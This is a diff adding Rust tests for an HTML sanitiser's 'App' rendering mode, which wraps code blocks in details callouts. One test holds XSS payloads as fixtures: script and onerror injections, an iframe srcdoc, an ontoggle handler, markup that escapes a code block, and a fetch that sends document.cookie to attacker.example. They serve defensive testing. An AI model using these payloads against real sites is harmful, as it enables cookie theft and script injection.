@@ -3,7 +3,7 @@
 //! input stays cheap to sanitise (deep nesting is flattened, content kept).
 
 use super::events::MAX_DEPTH;
-use super::{EAGER_TAIL_BYTES, StreamingMarkdown, render};
+use super::{EAGER_TAIL_BYTES, RenderMode, StreamingMarkdown, render, render_with};
 
 /// The corpus: markdown and how many image placeholders with a "Load image"
 /// button its whole rendering has.
@@ -91,7 +91,7 @@ fn assert_loads_nothing(html: &str) {
             let allowed: &[&str] = match name.as_str() {
                 "a" => &["href", "title", "target", "rel"],
                 "button" => &["type", "class", "data-image-url", "aria-label"],
-                "code" | "span" | "p" => &["class"],
+                "code" | "span" | "p" | "details" => &["class"],
                 "ol" => &["start"],
                 "input" => &["type", "checked", "disabled"],
                 _ => &["title"],
@@ -306,4 +306,89 @@ fn past_the_element_budget_markup_is_flattened_and_text_kept() {
     let html = render(&images);
     assert_eq!(load_buttons(html.as_str()).len(), 6_000);
     assert_loads_nothing(html.as_str());
+}
+
+/// The callouts of an app reply: each `details` has only the class `app-code`
+/// (with `app-code-more` after the first), never `open` or anything else.
+#[track_caller]
+fn assert_app_safe(html: &str) {
+    assert_loads_nothing(html);
+    for (name, attributes) in tags(html) {
+        if name == "details" {
+            let classes: Vec<_> = attributes.iter().map(|(a, v)| (a.as_str(), v.as_str())).collect();
+            assert!(
+                classes == [("class", "app-code")] || classes == [("class", "app-code app-code-more")],
+                "{classes:?} in {html}"
+            );
+        }
+        if name == "summary" {
+            assert!(attributes.is_empty(), "{attributes:?} in {html}");
+        }
+    }
+}
+
+#[test]
+fn app_mode_loads_nothing_and_keeps_the_corpus_as_it_was() {
+    for (markdown, images) in CORPUS {
+        let html = render_with(markdown, RenderMode::App);
+        assert_app_safe(html.as_str());
+        assert_eq!(load_buttons(html.as_str()).len(), *images, "{markdown}");
+        // Nothing in the corpus is app code: the same markup as an ordinary reply.
+        assert_eq!(html, render(markdown), "{markdown}");
+    }
+}
+
+#[test]
+fn app_code_stays_text_inside_its_callout() {
+    let hostile = [
+        "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
+        "```js\nfetch('https://attacker.example/?'+document.cookie)\n```",
+        "```css\nbody { background: url(https://attacker.example/bg.png) }\n```",
+        "```html onclick=\"alert(1)\" class=\"x\"\n<p>x</p>\n```",
+        "<details open ontoggle=alert(1)><summary>App code</summary>x</details>",
+        "```html\n</code></pre></details><details open><summary>x\n```",
+        "~~~html\n<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>\n~~~",
+    ];
+    for markdown in hostile {
+        let html = render_with(markdown, RenderMode::App);
+        assert_app_safe(html.as_str());
+        assert!(
+            !html.as_str().contains("<script") && !html.as_str().contains("<img") && !html.as_str().contains("<iframe")
+        );
+        assert!(html.as_str().matches("<details").count() <= 1, "{}", html.as_str());
+        for size in [1, 7] {
+            let mut streaming = StreamingMarkdown::with_mode(RenderMode::App);
+            for piece in super::tests::pieces(markdown, size) {
+                let update = streaming.push(piece);
+                update.new_blocks.iter().for_each(|b| assert_app_safe(b.as_str()));
+                assert_app_safe(update.tail.as_str());
+            }
+        }
+    }
+    // Raw details markup written by the model is text, in both modes.
+    let raw = render_with(hostile[4], RenderMode::App);
+    assert!(raw.as_str().starts_with("&lt;details open"), "{}", raw.as_str());
+    // The info string's extra words never become attributes.
+    let html = render_with(hostile[3], RenderMode::App);
+    assert!(html.as_str().contains("<code class=\"language-html\">"), "{}", html.as_str());
+}
+
+#[test]
+fn app_callouts_deep_or_past_the_budget_stay_bounded() {
+    // Deep in quotes: no callout where there is no room, nesting still bounded.
+    let markdown = format!("{}```html\n<p>deep</p>\n```", "> ".repeat(40));
+    let html = render_with(&markdown, RenderMode::App);
+    assert!(max_nesting(html.as_str()) <= 2 * MAX_DEPTH + 4, "too deep: {}", max_nesting(html.as_str()));
+    assert!(!html.as_str().contains("<details"));
+    assert!(html.as_str().contains("&lt;p&gt;deep"));
+    let shallow = format!("{}```html\n<p>x</p>\n```", "> ".repeat(MAX_DEPTH - 2));
+    assert!(render_with(&shallow, RenderMode::App).as_str().contains("<details"), "room for one at this depth");
+    // Many blocks: callouts stop at the element budget, code kept.
+    let many: String = (0..5_000).map(|i| format!("```js\nf{i}()\n```\n\n")).collect();
+    let html = render_with(&many, RenderMode::App);
+    assert_app_safe(html.as_str());
+    let callouts = html.as_str().matches("<details").count();
+    assert!(callouts > 100 && callouts < 5_000, "{callouts} callouts");
+    assert_eq!(html.as_str().matches("<details").count(), html.as_str().matches("</details>").count());
+    assert!(html.as_str().contains("f4999()"));
 }
